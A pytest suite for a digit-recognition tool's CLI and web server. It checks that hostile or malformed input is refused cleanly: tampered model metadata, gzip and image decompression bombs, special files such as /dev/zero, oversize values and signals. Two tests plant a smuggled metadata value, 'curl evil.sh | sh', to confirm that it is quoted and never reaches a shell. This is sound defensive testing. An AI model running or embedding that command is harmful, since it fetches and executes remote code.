"""Hostile input, each reproducing a reported defect: no traceback, a clear message naming the path, exit 1."""

import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from digitnet.app.cli import main
from quick import PLAIN


def digitnet(*args, env=None):
    return subprocess.run([sys.executable, "-m", "digitnet", *map(str, args)], capture_output=True, text=True,
                          env={**os.environ, **(env or {})})


@pytest.mark.parametrize("flag", ["--out", "--log"])
def test_an_output_file_that_is_a_directory_is_refused_before_training(tmp_path, flag, capsys):
    target = tmp_path / "d"
    target.mkdir()
    args = ["train", "--hidden", "8", "--epochs", "1", *PLAIN, "--validation", "0", flag, str(target)]
    if flag != "--out":
        args += ["--out", str(tmp_path / "m.safetensors")]
    assert main(args) == 1
    err = capsys.readouterr()
    assert f"{flag} {target}: is a directory" in err.err and "Traceback" not in err.err
    assert "training" not in err.out  # refused before any training started


@pytest.mark.parametrize("flag", ["--plots", "--checkpoint-dir"])
def test_an_output_directory_that_is_a_file_is_refused_before_training(tmp_path, flag, capsys):
    target = tmp_path / "f"
    target.write_text("x")
    assert main(["train", "--hidden", "8", "--epochs", "1", flag, str(target), "--out", str(tmp_path / "m.safetensors")]) == 1
    assert f"{flag} {target}: is a file, expected a directory" in capsys.readouterr().err


def test_unwritable_output_directory(tmp_path, capsys):
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        if os.access(locked, os.W_OK):  # root ignores permissions: use a path under a file instead
            target = tmp_path / "file"
            target.write_text("x")
            out = target / "sub" / "m.safetensors"
        else:
            out = locked / "m.safetensors"
        assert main(["train", "--hidden", "8", "--epochs", "1", "--out", str(out)]) == 1
        err = capsys.readouterr().err
        assert "--out" in err and "Traceback" not in err
    finally:
        locked.chmod(0o700)


def test_report_and_augment_outputs_are_checked(tmp_path, capsys):
    target = tmp_path / "d"
    target.mkdir()
    assert main(["augment", "--show", str(target)]) == 1
    assert f"--show {target}: is a directory" in capsys.readouterr().err
    afile = tmp_path / "f"
    afile.write_text("x")
    from digitnet import MLP, save_model

    model = save_model(tmp_path / "m.safetensors", MLP([784, 8, 10]))
    assert main(["report", str(model), "--out", str(afile)]) == 1
    assert f"--out {afile}: is a file, expected a directory" in capsys.readouterr().err


def test_an_unwritable_latest_pointer_is_a_warning_not_a_failure(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    (home / "models").write_text("not a directory")  # the pointer cannot be written under it
    out = tmp_path / "m.safetensors"
    result = digitnet("train", "--hidden", "8", "--epochs", "1", *PLAIN, "--validation", "0",
                      "--out", out, env={"DIGITNET_HOME": str(home)})
    assert result.returncode == 0, result.stderr
    assert out.is_file() and f"model saved to {out}" in result.stdout
    assert "warning: could not record" in result.stderr and "Traceback" not in result.stderr


# ---- model metadata is input too (checksum over it, schema on load) ----

def _model_file(tmp_path, **digitnet_meta):
    from digitnet import MLP, save_model

    return save_model(tmp_path / "m.safetensors", MLP([784, 8, 10], rng=0), digitnet_meta)


def _rewrite(path, **changes):
    """Change metadata entries and write a fresh, valid checksum: what a careful attacker would do."""
    import json
    import struct

    from digitnet import load_model
    from digitnet.run.modelfile import encode

    data = path.read_bytes()
    (n,) = struct.unpack("<Q", data[:8])
    meta = json.loads(data[8:8 + n])["__metadata__"]
    meta.update(changes)
    path.write_bytes(encode(load_model(path).params if "digitnet" not in changes else _params(path), meta))


def _params(path):
    import safetensors.numpy

    return safetensors.numpy.load(path.read_bytes())


@pytest.mark.parametrize("meta, message", [
    ('{"classes": ["a", "b", "c"]}', "names 3 classes, but the network has 10 outputs"),
    ('{"test_accuracy": "high"}', "metadata field 'test_accuracy'"),
    ('{"train_seconds": [1]}', "metadata field 'train_seconds'"),
    ('{"calibration": {"temperature": -1, "threshold": 0.5}}', "calibration.temperature"),
    ('{"config": {"epochs": 1.5}}', "epochs must be an integer"),
    ("[" * 100_000 + "]" * 100_000, "nested more than"),
])
def test_checksum_valid_but_unacceptable_metadata_is_refused(tmp_path, meta, message, capsys):
    path = _model_file(tmp_path)
    _rewrite(path, digitnet=meta)
    assert main(["predict", str(path), "--index", "0"]) == 1
    err = capsys.readouterr().err
    assert message in err and str(path) in err and "Traceback" not in err


def test_changed_architecture_metadata_fails_the_checksum(tmp_path):
    import struct

    from digitnet import ModelFileError, load_model

    path = _model_file(tmp_path)
    data = bytearray(path.read_bytes())
    (n,) = struct.unpack("<Q", data[:8])
    header = data[8:8 + n].decode().replace('\\"tanh\\"', '\\"relu\\"')  # same length: still valid safetensors
    assert "relu" in header
    path.write_bytes(bytes(data[:8]) + header.encode() + bytes(data[8 + n:]))
    with pytest.raises(ModelFileError, match="checksum mismatch"):
        load_model(path)


def test_a_checkpoint_without_a_config_is_refused(tmp_path, capsys):
    import numpy as np

    from digitnet import MLP, SGD
    from digitnet.run.checkpoint import Checkpointer
    from digitnet.training.fit import Resume

    ckpt = Checkpointer(tmp_path, metadata={"recipe": "default"})
    ckpt.save(MLP([784, 4, 10]), SGD(0.1), np.random.default_rng(0), [], Resume(1))
    assert main(["train", "--resume", str(tmp_path)]) == 1
    assert "no training config to resume with" in capsys.readouterr().err


# ---- files that are not what they claim ----

def test_a_gzip_idx_claiming_more_than_the_cap_is_refused_before_inflating(tmp_path, monkeypatch):
    """A small .gz that inflates to 50 MB of zeros, with a header that honestly claims them: over the cap."""
    import gzip

    from digitnet import DataError
    from digitnet.data.idx import read_idx

    monkeypatch.setenv("DIGITNET_MAX_IDX_BYTES", str(10 << 20))
    n = 50 << 20
    head = bytes([0, 0, 8, 1]) + n.to_bytes(4, "big")
    path = tmp_path / "bomb-idx1-ubyte.gz"
    path.write_bytes(gzip.compress(head + bytes(n), compresslevel=1))
    assert path.stat().st_size < 1 << 20
    with pytest.raises(DataError, match="more than the 10,485,760 allowed"):
        read_idx(path)


def test_a_gzip_whose_header_lies_about_its_size_is_refused_before_inflating(tmp_path):
    import gzip

    from digitnet import DataError
    from digitnet.data.idx import read_idx

    head = bytes([0, 0, 8, 3]) + (30_000).to_bytes(4, "big") + (28).to_bytes(4, "big") * 2
    path = tmp_path / "liar-idx3-ubyte.gz"
    path.write_bytes(gzip.compress(head + bytes(1000)))
    with pytest.raises(DataError, match="but the gzip stream holds"):
        read_idx(path)


@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_predict_refuses_special_files_without_reading_them(tmp_path, special, capsys):
    from digitnet import MLP, save_model

    model = save_model(tmp_path / "m.safetensors", MLP([784, 8, 10]))
    if special == "fifo":
        special = tmp_path / "pipe.png"
        os.mkfifo(special)
    assert main(["predict", str(model), str(special)]) == 1  # returns at once: no read of /dev/zero, no wait on the pipe
    assert "not a regular file" in capsys.readouterr().err


def test_finite_but_huge_weights_are_an_error_not_a_nan_answer(tmp_path, capsys):
    from digitnet import MLP, save_model

    model = MLP([784, 8, 10])
    for p in model.params.values():
        p[...] = 3e38
    path = save_model(tmp_path / "m.safetensors", model)
    assert main(["predict", str(path), "--index", "0"]) == 1
    assert "outputs are not finite" in capsys.readouterr().err


def test_two_runs_cannot_share_a_checkpoint_directory(tmp_path):
    from digitnet import UsageError
    from digitnet.run.checkpoint import Checkpointer

    first = Checkpointer(tmp_path)
    with pytest.raises(UsageError, match="another run is writing checkpoints here"):
        Checkpointer(tmp_path)
    first.close()
    Checkpointer(tmp_path).close()  # free again once the first run ends


def test_a_network_too_big_for_memory_is_refused_with_the_figures(capsys):
    with pytest.raises(SystemExit) as info:  # 65,536 is the most a layer may have; two of them is 4.3 G weights
        main(["train", "--hidden", "65536,65536", "--epochs", "1"])
    assert info.value.code == 2
    err = capsys.readouterr().err
    assert "needs about" in err and "GiB to train, and this machine has" in err


@pytest.mark.parametrize("args, message", [
    (["--rotate", "1e308"], "rotation must be <= 180"),
    (["--shift", "1e308"], "shift must be <= 14"),
    (["--warmup-epochs", "1e308"], "warm-up must be <= 1e+06"),
    (["--elastic-alpha", "1e308"], "elastic alpha must be <= 100"),
    (["--hidden", ""], "at least one hidden layer size"),
])
def test_values_that_crashed_are_refused(args, message, capsys):
    with pytest.raises(SystemExit) as info:
        main(["train", *args])
    assert info.value.code == 2 and message in capsys.readouterr().err


@pytest.mark.parametrize("toml, message", [
    ("epochs = 1.5", "epochs: epochs must be an integer, got 1.5"),
    ("data = 5", "data: expected a string, got 5"),
    ('epochs = "1"', "epochs: epochs must be an integer, got '1'"),
    ("hidden = [16.9]", "hidden: layer sizes must be an integer, got 16.9"),
])
def test_toml_values_name_their_key(tmp_path, toml, message, capsys):
    config = tmp_path / "c.toml"
    config.write_text(toml + "\n")
    with pytest.raises(SystemExit) as info:
        main(["train", "--config", str(config)])
    assert info.value.code == 2 and message in capsys.readouterr().err


def test_config_naming_a_directory(tmp_path, capsys):
    with pytest.raises(SystemExit):
        main(["train", "--config", str(tmp_path)])
    assert "is a directory, expected a TOML config file" in capsys.readouterr().err


# ---- signals and the server ----

def test_sigterm_ends_training_like_ctrl_c(tmp_path):
    import signal
    import time

    proc = subprocess.Popen([sys.executable, "-m", "digitnet", "train", "--hidden", "64", "--epochs", "50",
                             *PLAIN, "--checkpoint-dir", str(tmp_path / "ck"),
                             "--out", str(tmp_path / "m.safetensors")], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    deadline = time.monotonic() + 120
    while not list((tmp_path / "ck").glob("ckpt-*.safetensors")) and time.monotonic() < deadline:
        time.sleep(0.2)  # a first checkpoint: training is under way
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 143 and "terminated" in err and "Traceback" not in err
    from digitnet.run.checkpoint import checkpoints, read

    read(checkpoints(tmp_path / "ck")[-1])  # the newest checkpoint is whole


def test_serve_on_a_port_in_use_says_so(tmp_path, capsys):
    import socket

    from digitnet import MLP, save_model

    model = save_model(tmp_path / "m.safetensors", MLP([784, 8, 10]))
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        assert main(["serve", str(model), "--port", str(port)]) == 1
    assert f"cannot listen on 127.0.0.1:{port}" in capsys.readouterr().err


def test_healthz_answers_while_big_images_are_decoded(served_model, monkeypatch):
    """Image decoding runs off the event loop: /healthz stays fast while 4 clients post large pictures."""
    import asyncio
    import io
    import threading

    import httpx
    from PIL import Image

    from digitnet.app.serve import create_app

    buffer = io.BytesIO()
    Image.new("L", (3900, 3900), 255).save(buffer, "PNG")  # just under 16 MP: decoded, not refused
    big = buffer.getvalue()
    from digitnet.app.serve import app as app_module

    decoded_on = set()
    decode = app_module.open_image

    def recording_open_image(*args, **kwargs):
        decoded_on.add(threading.get_ident())
        return decode(*args, **kwargs)

    app = create_app(served_model)
    monkeypatch.setattr(app_module, "open_image", recording_open_image)

    async def scenario():
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            stop = asyncio.Event()

            async def poster():
                while not stop.is_set():
                    r = await client.post("/api/predict", content=big, headers={"content-type": "image/png"})
                    assert r.status_code in (200, 503)

            posters = [asyncio.create_task(poster()) for _ in range(4)]
            await asyncio.sleep(0.3)
            times = []
            for _ in range(40):
                start = asyncio.get_running_loop().time()
                assert (await client.get("/healthz")).status_code == 200
                times.append(asyncio.get_running_loop().time() - start)
                await asyncio.sleep(0.02)
            stop.set()
            await asyncio.gather(*posters)
            return times

    loop_thread, times = threading.get_ident(), asyncio.run(scenario())
    assert decoded_on and loop_thread not in decoded_on  # never decoded on the event loop's thread
    # a stall guard, far above the ~10 ms it takes (benchmarks/stall.py measures p50/p99 on a real server):
    # decoding must never run on the event loop, where one 7000x7000 PNG would hold it for seconds
    assert max(times) < 5, max(times)


def test_serve_with_two_worker_processes(served_model):
    import time

    import httpx

    with __import__("socket").socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = subprocess.Popen([sys.executable, "-m", "digitnet", "serve", str(served_model), "--port", str(port),
                               "--workers", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1).status_code == 200:
                    break
            except httpx.HTTPError:
                time.sleep(0.2)
        children = [p for p in os.listdir("/proc") if p.isdigit() and _parent(p) == server.pid]
        assert len(children) >= 2, children  # uvicorn's worker processes
        pixels = [0.0] * 784
        answers = [httpx.post(f"http://127.0.0.1:{port}/api/predict", json={"pixels": pixels}, timeout=10).json()
                   for _ in range(5)]
        assert all(a["reason"] == "blank" for a in answers)
    finally:
        server.terminate()
        server.wait(timeout=30)


def _parent(pid: str) -> int:
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return -1



# ---- rough edges ----

def _small_run(tmp_path, *extra):
    return main(["train", "--hidden", "16", "--epochs", "2", *PLAIN,
                 "--validation", "0", "--augmented-copies", "0", "--checkpoint-dir", str(tmp_path / "ck"),
                 "--out", str(tmp_path / "m.safetensors"), *extra])


def test_a_damaged_newest_checkpoint_falls_back_to_the_previous_one(tmp_path, capsys):
    assert _small_run(tmp_path, "--keep", "2") == 0
    from digitnet.run.checkpoint import checkpoints

    older, newest = checkpoints(tmp_path / "ck")
    data = bytearray(newest.read_bytes())
    data[-5] ^= 0xFF
    newest.write_bytes(bytes(data))
    capsys.readouterr()
    assert main(["train", "--resume", str(tmp_path / "ck")]) == 0
    err = capsys.readouterr().err
    assert f"warning: {newest} cannot be used" in err and f"resuming from {older}" in err


def test_resume_refuses_conflicting_flags_and_keeps_keep(tmp_path, capsys):
    assert _small_run(tmp_path, "--keep", "1") == 0
    with pytest.raises(SystemExit) as info:
        main(["train", "--resume", str(tmp_path / "ck"), "--lr", "0.5", "--epochs", "9"])
    assert info.value.code == 2
    assert "--resume continues the run with its own settings; drop --epochs, --lr" in capsys.readouterr().err
    from digitnet.run.checkpoint import checkpoints

    assert len(checkpoints(tmp_path / "ck")) == 1
    assert main(["train", "--resume", str(tmp_path / "ck")]) == 0
    assert len(checkpoints(tmp_path / "ck")) == 1  # still the run's --keep 1, not the default 3


def test_latest_pointing_at_a_deleted_model(tmp_path, digitnet_home, capsys):
    from digitnet import paths

    paths.remember_latest(tmp_path / "gone.safetensors")
    with pytest.raises(SystemExit):
        main(["evaluate"])
    err = capsys.readouterr().err
    assert "gone.safetensors, no longer exists" in err and "none saved yet" not in err


def test_a_model_whose_data_directory_is_gone_does_not_use_one_of_the_same_name_here(tmp_path, monkeypatch, capsys):
    from digitnet import MLP, save_model

    path = save_model(tmp_path / "m.safetensors", MLP([784, 8, 10]),
                      {"dataset": "mydigits", "dataset_source": str(tmp_path / "gone" / "mydigits")})
    (tmp_path / "work" / "mydigits").mkdir(parents=True)  # a same-named directory here is not the model's data
    monkeypatch.chdir(tmp_path / "work")
    assert main(["evaluate", str(path)]) == 1
    assert "pass --data DIR" in capsys.readouterr().err


@pytest.fixture(scope="module")
def client(served_model):
    from fastapi.testclient import TestClient

    from digitnet.app.serve import create_app

    with TestClient(create_app(served_model), raise_server_exceptions=False) as c:
        yield c


def test_pixels_must_be_numbers_not_strings_or_booleans(client):
    for bad in (["0.5"] * 784, [True] * 784):
        response = client.post("/api/predict", json={"pixels": bad})
        assert response.status_code == 422, response.text


def test_only_the_named_picture_formats_are_decoded(tmp_path, capsys):
    from PIL import Image

    from digitnet import MLP, save_model

    model = save_model(tmp_path / "m.safetensors", MLP([784, 8, 10]))
    Image.new("L", (40, 40), 255).save(tmp_path / "digit.tiff")
    Image.new("L", (40, 40), 255).save(tmp_path / "digit.bmp")
    assert main(["predict", str(model), str(tmp_path / "digit.bmp")]) == 0  # BMP: read (a blank one)
    assert main(["predict", str(model), str(tmp_path / "digit.tiff")]) == 1
    assert "expected PNG, JPEG, GIF, BMP or WEBP" in capsys.readouterr().err


def test_a_client_leaving_mid_upload_is_not_a_server_error(served_model):
    import asyncio

    from digitnet.app.serve import create_app

    app = create_app(served_model)
    sent = []

    async def scenario():
        messages = iter([{"type": "http.request", "body": b"\x89PNG", "more_body": True},
                         {"type": "http.disconnect"}])

        async def receive():
            return next(messages)

        async def send(message):
            sent.append(message)

        scope = {"type": "http", "method": "POST", "path": "/api/predict", "headers": [(b"content-type", b"image/png")],
                 "query_string": b"", "http_version": "1.1", "scheme": "http", "server": ("test", 80), "root_path": ""}
        await app(scope, receive, send)

    asyncio.run(scenario())
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    assert status == 400


def test_a_diverging_run_gives_one_message_and_no_warnings(tmp_path):
    result = subprocess.run([sys.executable, "-W", "default", "-m", "digitnet", "train", "--hidden", "32", "--epochs", "3",
                             "--lr", "1e9", "--schedule", "step", "--optimizer", "sgd", *PLAIN,
                             "--out", str(tmp_path / "m.safetensors")], capture_output=True, text=True)
    assert result.returncode == 1 and "training stopped" in result.stderr
    assert "RuntimeWarning" not in result.stderr


def test_divergence_from_weight_decay_blames_weight_decay(tmp_path):
    result = subprocess.run([sys.executable, "-m", "digitnet", "train", "--hidden", "16", "--epochs", "2", "--lr", "0.5",
                             "--optimizer", "sgd", "--weight-decay", "900", *PLAIN,
                             "--out", str(tmp_path / "m.safetensors")], capture_output=True, text=True)
    assert result.returncode == 1 and "try a smaller weight decay or learning rate (--weight-decay, --lr)" in result.stderr


def test_an_empty_test_split_is_refused_before_training(tmp_path, mnist, capsys):
    from digitnet.data.idx import write_idx

    for stem, array in (("train-images-idx3-ubyte", mnist.train.images[:50]), ("train-labels-idx1-ubyte",
                        mnist.train.labels[:50].astype(np.uint8)), ("t10k-images-idx3-ubyte", mnist.test.images[:0]),
                        ("t10k-labels-idx1-ubyte", mnist.test.labels[:0].astype(np.uint8))):
        write_idx(tmp_path / stem, array)
    assert main(["train", "--data", str(tmp_path), "--hidden", "8", "--epochs", "1", *PLAIN,
                 "--out", str(tmp_path / "m.safetensors")]) == 1
    captured = capsys.readouterr()
    assert "the test split holds 0 images" in captured.err and "test accuracy" not in captured.out


def test_a_full_disk_under_the_log_is_one_clear_line(tmp_path, capsys):
    """/dev/full answers every write with ENOSPC, as a full disk does."""
    assert main(["train", "--hidden", "8", "--epochs", "1", *PLAIN,
                 "--log", "/dev/full", "--out", str(tmp_path / "m.safetensors")]) == 1
    err = capsys.readouterr().err
    assert "--log /dev/full: cannot be written (No space left on device)" in err and "Traceback" not in err


def test_exif_orientation_is_applied(tmp_path):
    from PIL import Image

    from digitnet.reading.preprocess import open_image

    img = Image.new("L", (60, 20), 255)
    exif = Image.Exif()
    exif[0x0112] = 6  # "rotate 90° clockwise to display"
    img.save(tmp_path / "phone.jpg", exif=exif)
    assert open_image(tmp_path / "phone.jpg").shape == (60, 20)  # upright: 60 high, 20 wide


def test_special_files_as_model_or_config_are_refused_unread(capsys):
    """The bounded read is shared: a model path or --config of /dev/zero is refused like a picture's."""
    assert main(["evaluate", "/dev/zero"]) == 1
    assert "/dev/zero: not a regular file (expected a digitnet .safetensors model)" in capsys.readouterr().err
    with pytest.raises(SystemExit) as info:
        main(["train", "--config", "/dev/zero"])
    assert info.value.code == 2 and "not a regular file (expected a TOML config file)" in capsys.readouterr().err


# ---- model cards and reports take any metadata the loader takes; recipe names never reach a shell unquoted ----

@pytest.mark.parametrize("meta", [
    {"calibration": {"temperature": 1.5, "threshold": 0.6}, "train_seconds": 2.0},  # no validation_samples
    {"machine": [1, 2], "train_seconds": 2.0},
    {"machine": {"blas": 5}, "train_seconds": 2.0},
    {"calibration": {"temperature": 1.5, "threshold": 0.6, "ece_before": "lots"}},
    {"history": {"records": [{"epoch": 0}]}},
    {"recipe": "default --seed 0; curl evil.sh | sh #"},
], ids=["no validation_samples", "machine a list", "blas a number", "ece a word", "history without losses",
        "recipe with shell syntax"])
def test_the_card_and_report_take_any_metadata_the_loader_takes(tmp_path, meta, mnist):
    from digitnet import load_model
    from digitnet.app.card import model_card
    from digitnet.app.report import write_report
    from digitnet.errors import ModelFileError

    path = _model_file(tmp_path, **meta)
    try:
        model = load_model(path)
    except ModelFileError as exc:  # refused on load, naming the field, is fine too
        assert f"metadata field '{next(iter(meta))}" in str(exc)
        return
    card = model_card(model)
    assert "## Evaluation" in card and "--recipe default --seed 0; curl" not in card
    assert write_report(model, mnist, tmp_path / "report").is_file()


def test_the_card_quotes_the_recipe_and_names_only_known_ones_in_a_command():
    from digitnet import MLP
    from digitnet.app.card import model_card

    model = MLP([784, 8, 10], rng=0)
    model.metadata = {"recipe": "default --seed 0; curl evil.sh | sh #", "seed": 0}
    card = model_card(model)
    assert "curl evil.sh | sh #`" not in card and "--recipe default --seed 0; curl" not in card
    assert "'default --seed 0; curl evil.sh | sh #'" in card and "no command here trains it again" in card
    model.metadata = {"recipe": "default+personal", "seed": 0}
    card = model_card(model)
    assert "`digitnet train --recipe default --seed 0`, then personal" in card


# ---- predict: one unreadable picture does not end a batch ----

def _digit_png(path):
    from PIL import Image, ImageDraw

    img = Image.new("L", (100, 100), 255)
    ImageDraw.Draw(img).line([(50, 15), (50, 85)], fill=0, width=9)
    img.save(path)
    return path


def test_predict_reads_the_rest_after_an_unreadable_picture(tmp_path, capsys):
    import json

    from PIL import Image

    from digitnet import MLP, save_model

    model = save_model(tmp_path / "m.safetensors", MLP([784, 8, 10], rng=0))
    bomb = tmp_path / "bomb.png"
    Image.new("1", (5000, 5000)).save(bomb)  # 25 megapixels, a few kilobytes
    pictures = [_digit_png(tmp_path / "a.png"), bomb, _digit_png(tmp_path / "b.png")]
    assert main(["predict", str(model), *map(str, pictures), "--json"]) == 1
    out, err = capsys.readouterr()
    records = [json.loads(line) for line in out.splitlines()]
    assert [r["source"] for r in records] == list(map(str, pictures))
    assert "verdict" in records[0] and "verdict" in records[2] and "too large" in records[1]["error"]
    assert "1 of 3 pictures could not be read" in err and "Traceback" not in err


def test_predict_knows_a_model_by_its_suffix_in_any_case(tmp_path, capsys):
    from digitnet import MLP, save_model

    model = save_model(tmp_path / "Model.SAFETENSORS", MLP([784, 8, 10], rng=0))
    assert main(["predict", str(model), str(_digit_png(tmp_path / "a.png"))]) == 0
    assert "verdict:" in capsys.readouterr().out


def test_white_ink_on_a_transparent_background_is_read(tmp_path):
    from PIL import Image, ImageDraw

    from digitnet.reading.preprocess import find_ink, open_image

    rgba = Image.new("RGBA", (100, 100), (0, 0, 0, 0))
    ImageDraw.Draw(rgba).line([(50, 15), (50, 85)], fill=(255, 255, 255, 255), width=9)
    rgba.save(tmp_path / "rgba.png")
    palette = Image.new("P", (100, 100), 0)
    palette.putpalette([0, 0, 0, 255, 255, 255])
    ImageDraw.Draw(palette).line([(50, 15), (50, 85)], fill=1, width=9)
    palette.save(tmp_path / "palette.png", transparency=0)
    for name in ("rgba.png", "palette.png"):
        ink = find_ink(open_image(tmp_path / name), name=name)  # BlankImage before: white on white paper
        assert ink.max() > 0.9 and (ink > 0.5).mean() < 0.5  # the stroke is the ink, not the background


# ---- output paths: tried before the work, errors name the file asked for, no half exports ----

def test_an_output_path_that_cannot_be_created_is_refused_before_training(tmp_path, monkeypatch, capsys):
    from digitnet.app import cli

    monkeypatch.setattr(cli, "train", lambda *a, **k: pytest.fail("it trained"))
    # root may write anywhere but there
    assert main(["train", "--hidden", "8", "--epochs", "1", "--out", "/proc/x.safetensors"]) == 1
    err = capsys.readouterr().err
    assert "--out /proc/x.safetensors: cannot be written" in err and "Traceback" not in err


def test_export_writes_nothing_unless_it_can_write_everything(tmp_path, capsys):
    from digitnet import MLP, save_model

    model = save_model(tmp_path / "m.safetensors", MLP([784, 8, 10], rng=0))
    afile = tmp_path / "afile"
    afile.write_text("x")
    onnx = tmp_path / "new" / "deeper" / "a.onnx"
    assert main(["export", str(model), "--onnx", str(onnx), "--web", str(afile)]) == 1
    assert f"--web {afile}: is a file" in capsys.readouterr().err
    assert not (tmp_path / "new").exists()  # neither the ONNX file nor its folders
    assert main(["export", str(model), "--onnx", "/proc/x.onnx"]) == 1
    err = capsys.readouterr().err
    assert "/proc/x.onnx" in err and ".tmp" not in err


def test_a_write_refused_by_a_file_size_limit_names_the_file(tmp_path, mnist):
    import resource

    from digitnet.run import personal

    for i in range(12):
        personal.add(mnist.test.images[i] / 255.0, int(mnist.test.labels[i]))
    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))  # bytes: the images file is 9,424

    result = subprocess.run([sys.executable, "-m", "digitnet", "datasets", "export", "personal", str(tmp_path / "out")],
                            capture_output=True, text=True, preexec_fn=limit, check=False)
    assert result.returncode == 1, result.stderr
    assert f"{tmp_path / 'out' / personal.IMAGES}: File too large" in result.stderr and "Traceback" not in result.stderr


# ---- serve --workers 2: its workers end with it, even when it is killed with SIGKILL ----

def test_killing_the_serve_master_ends_its_workers_and_frees_the_port(served_model):
    import signal
    import socket
    import time

    import httpx

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = subprocess.Popen([sys.executable, "-m", "digitnet", "serve", str(served_model), "--port", str(port),
                               "--workers", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    workers: list[int] = []
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1).status_code == 200:
                    break
            except httpx.HTTPError:
                time.sleep(0.2)
        workers = [int(p) for p in os.listdir("/proc") if p.isdigit() and _parent(p) == server.pid]
        assert len(workers) >= 2, workers
        os.kill(server.pid, signal.SIGKILL)
        server.wait(timeout=10)
        deadline, free = time.monotonic() + 10, False  # a stall guard: it takes well under a second
        while time.monotonic() < deadline and not free:
            with socket.socket() as probe:
                free = probe.connect_ex(("127.0.0.1", port)) != 0
            time.sleep(0.1)
        assert free, "the workers still answer on the port after their master was killed"
        with socket.socket() as again:  # a new server could listen there
            again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            again.bind(("127.0.0.1", port))
    finally:
        for pid in [server.pid, *workers]:
            try:
                os.kill(pid, signal.SIGKILL)
            except (ProcessLookupError, PermissionError):
                pass
